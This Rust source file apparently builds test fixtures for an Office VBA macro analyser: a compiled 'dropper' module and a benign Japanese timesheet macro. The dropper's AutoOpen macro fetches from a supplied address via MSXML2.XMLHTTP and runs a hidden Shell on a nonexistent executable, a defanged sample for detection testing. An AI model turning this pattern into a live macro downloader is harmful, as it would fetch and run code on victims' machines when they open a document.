//! Modules with compiled code, and the source it was made of.

use crate::office::pcode::{Code, Compiler, Names};

/// A module compiled.
#[derive(Debug, Clone)]
pub struct Compiled {
    /// What stands before the source in the module's stream.
    pub cache: Vec<u8>,
    /// The stream `_VBA_PROJECT`.
    pub names: Vec<u8>,
    /// The source, as the editor writes it.
    pub source: String,
}

/// The head of `__SRP_0`, which the last run leaves with the compiler's version in it.
pub fn executed(compiler: Compiler) -> Vec<u8> {
    let [version, _] = compiler.version().to_le_bytes();
    let mut out = vec![0x93, 0x4b, 0x2a, version, 1, 0, 0x10, 0, 0, 0, 0xff, 0xff];
    out.resize(512, 0);
    out
}

/// Opening it fetches from an address and starts a program that does not exist.
pub fn dropper(compiler: Compiler, address: &str) -> Compiled {
    let mut names = Names::new(compiler);
    let mut code = Code::new(compiler);
    let (open, h, create) = (names.id("AutoOpen"), names.id("h"), names.id("CreateObject"));
    let (request, send, shell) = (names.id("Open"), names.id("send"), names.id("Shell"));
    code.sub(open);
    code.line().op(240, 0, &[]).string("MSXML2.XMLHTTP").op(36, 0, &[create, 1]).op(46, 0, &[h]);
    code.line().string("GET").string(address).op(186, 0, &[]).op(32, 0, &[h]).op(66, 16, &[request, 3]);
    code.line().op(32, 0, &[h]).op(66, 16, &[send, 0]);
    code.line().string("harmless-none.exe").integer(0).call(shell, 2);
    code.end_sub();
    let source = format!(
        "Sub AutoOpen()\n    Set h = CreateObject(\"MSXML2.XMLHTTP\")\n    h.Open \"GET\", \"{address}\", False\n    \
         h.send\n    Shell \"harmless-none.exe\", 0\nEnd Sub\n"
    );
    Compiled { cache: code.build(), names: names.stream(), source }
}

/// An honest time sheet: Japanese names, comments, a continued line.
pub fn time_sheet(compiler: Compiler) -> Compiled {
    let mut names = Names::new(compiler);
    let mut code = Code::new(compiler);
    let (main, row, total) = (names.id("集計"), names.id("行"), names.id("合計"));
    let (cells, value, message) = (names.id("Cells"), names.id("Value"), names.id("MsgBox"));
    let information = names.id("vbInformation");
    code.line().op(208, 4, &[]);
    code.line().text(227, &[0], " 勤怠の集計: Shell や AutoOpen は使いません");
    code.sub(main);
    let (long, double) = (code.simple(3), code.simple(5));
    let rows = code.variable(row, Some(long), false);
    let totals = code.variable(total, Some(double), false);
    code.line().op(93, 0, &[]).record(245, 0, rows).record(245, 0, totals);
    code.line().op(258, 0, &[]).op(32, 0, &[row]).op(257, 0, &[]).integer(2).integer(40).op(146, 0, &[]);
    let cell = |code: &mut Code| {
        code.op(32, 0, &[row]).integer(3).op(36, 0, &[cells, 2]).op(33, 0, &[value]);
    };
    code.line();
    cell(&mut code);
    code.string("").op(6, 0, &[]).op(156, 0, &[]);
    code.line().text(166, &[], "\u{1}\u{2}\u{3}\u{4}").op(32, 0, &[total]);
    cell(&mut code);
    // 1.5 as four words.
    code.op(183, 0, &[0, 0, 0, 0x3ff8]).op(15, 0, &[]).op(11, 0, &[]).op(39, 0, &[total]);
    code.line().op(107, 0, &[]).text(227, &[20], " 空欄は数えない");
    code.line().op(258, 0, &[]).op(32, 0, &[row]).op(257, 0, &[]).op(203, 0, &[]);
    code.line().string("合計は\"").op(32, 0, &[total]).op(17, 0, &[]).string("\"時間です").op(17, 0, &[]);
    code.op(32, 0, &[information]).call(message, 2);
    code.end_sub();
    code.line();
    let source = "Option Explicit\n\
                  ' 勤怠の集計: Shell や AutoOpen は使いません\n\
                  Sub 集計()\n    Dim 行 As Long, 合計 As Double\n    For 行 = 2 To 40\n        \
                  If Cells(行, 3).Value <> \"\" Then\n            合計 = 合計 + _\n                \
                  Cells(行, 3).Value * 1.5\n        End If ' 空欄は数えない\n    Next 行\n    \
                  MsgBox \"合計は\"\"\" & 合計 & \"\"\"時間です\", vbInformation\nEnd Sub\n\n";
    Compiled { cache: code.build(), names: names.stream(), source: source.to_owned() }
}
